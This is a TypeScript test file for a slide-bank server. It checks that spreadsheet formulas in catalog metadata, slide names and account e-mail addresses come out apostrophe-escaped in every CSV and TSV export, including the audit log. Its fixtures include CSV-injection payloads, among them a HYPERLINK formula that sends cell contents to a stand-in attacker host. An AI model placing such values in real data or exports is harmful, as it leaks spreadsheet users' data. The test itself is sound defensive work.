/**
 * No CSV the server writes carries a spreadsheet formula. Catalog metadata
 * can hold text that a spreadsheet would run as a formula (a partner's
 * import brings it verbatim; here it is put into the catalog directly), and
 * so can a slide's name and an account's e-mail address. Every CSV (and the
 * TSV manifest) that carries them is fetched from the running server and
 * read back with a CSV parser: each such cell starts with an apostrophe and
 * keeps its text; numbers stay plain numbers.
 */
import { execFile } from 'node:child_process';
import { createHash } from 'node:crypto';
import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { promisify } from 'node:util';
import test from 'ava';
import { parse } from 'csv-parse/sync';
import { createDatasetsService } from '../../server/datasets/index.js';
import { bearerHeaders, Client, signedIn } from '../support/accounts.js';
import { startTestApp } from '../support/app.js';
import { testDialect } from '../support/database.js';
import { makeSlide, registerSlide } from '../support/slides.js';

const FORMULAS = {
  pathology_info: '=HYPERLINK("https://evil.example/?"&A1,"details")',
  dataset: '+SUM(1,1)',
  marker: '@cmd',
  differentiation: '-2+3',
};

const run = promisify(execFile);

type Rows = Record<string, string>[];

function rowsOf(text: string, delimiter = ','): Rows {
  return parse(text, { columns: true, delimiter }) as Rows;
}

function escaped(value: string): string {
  return `'${value}`;
}

test(`formula text in metadata, names and e-mail addresses reaches every CSV as text, on ${testDialect}`, async (t) => {
  t.timeout(5 * 60_000);
  const root = await mkdtemp(path.join(os.tmpdir(), 'slidebank-csv-'));
  t.teardown(() => rm(root, { recursive: true, force: true }));
  const app = await startTestApp(t, { env: { SLIDEBANK_PATHS_DATA: path.join(root, 'var') } });
  const { svs } = await makeSlide({ width: 1200, height: 900, seed: 81, out: root, name: 'case-0', tileSize: 240 });
  const slide = await registerSlide(app.database.db, svs, 'SB1-LV-HCC-HE-MD-81-81-0000000081');
  const sha256 = createHash('sha256').update(await readFile(svs)).digest('hex');
  await app.database.db.knex('slides').where({ id: slide.id }).update({ sha256, organ: 'LV', histology: 'HCC', stain: 'HE', ...FORMULAS });
  // A slide whose very name is a formula (names come from partners' bags too).
  const named = await registerSlide(app.database.db, svs, '=1+2');
  const datasets = createDatasetsService(app.config, app.database.db);
  await datasets.create('liver');
  await datasets.add('liver', { slides: [slide.id] });
  await datasets.release('liver', '1', 'curator');
  const { token: member } = await signedIn(app, { level: 'L3' });

  // The bag's data/metadata.csv (the same file slidebank export writes).
  const bag = await member.get<{ files: { path: string; content: string }[] }>('/api/datasets/liver/bag?version=1');
  t.is(bag.status, 200);
  const csv = Buffer.from(bag.body.files.find((f) => f.path === 'data/metadata.csv')!.content, 'base64').toString('utf8');
  const [bagRow] = rowsOf(csv);
  for (const [column, value] of Object.entries(FORMULAS)) t.is(bagRow![column], escaped(value), `bag metadata.csv: ${column}`);
  t.is(bagRow!.size, String(slide.fileSize), 'a number stays a number');
  t.is(bagRow!.width, '1200');

  // The ZIP bundle's metadata.csv.
  const bundle = await member.post<Buffer>('/api/downloads', { slides: [slide.id] });
  t.is(bundle.status, 200);
  const zip = path.join(root, 'bundle.zip');
  await writeFile(zip, bundle.body);
  const [bundleRow] = rowsOf((await run('/usr/bin/unzip', ['-p', zip, 'metadata.csv'])).stdout);
  t.is(bundleRow!.pathology_info, escaped(FORMULAS.pathology_info), 'bundle metadata.csv');
  t.is(bundleRow!.dataset, escaped(FORMULAS.dataset), 'bundle metadata.csv');

  // The TSV manifest for slidebank fetch and spreadsheets.
  const tsv = await member.get<Buffer>(`/api/downloads/manifest?slides=${named.id}&format=tsv`);
  t.is(tsv.status, 200);
  const [tsvRow] = rowsOf(tsv.body.toString('utf8'), '\t');
  t.is(tsvRow!.slide, escaped('=1+2'), 'manifest.tsv');
  t.is(tsvRow!.slide_id, String(named.id));

  // The audit log's CSV: an administrator whose address is a formula (an account made by script) withdraws a slide.
  const email = '=1+2@hospital.example';
  const admin = new Client(app, (await bearerHeaders(app, { level: 'L1', roles: ['admin'], email })).authorization!.replace(/^Bearer /, ''));
  t.is((await admin.post(`/api/admin/slides/${named.id}/withdraw`, { reason: 'duplicate' })).status, 200);
  const audit = await admin.get<Buffer>('/api/admin/audit.csv');
  t.is(audit.status, 200);
  const withdrawal = rowsOf(audit.body.toString('utf8')).find((r) => r.action === 'slide.withdrawn');
  t.is(withdrawal?.actor_email, escaped(email), 'audit.csv');
  t.is(withdrawal?.subject_id, String(named.id));
});
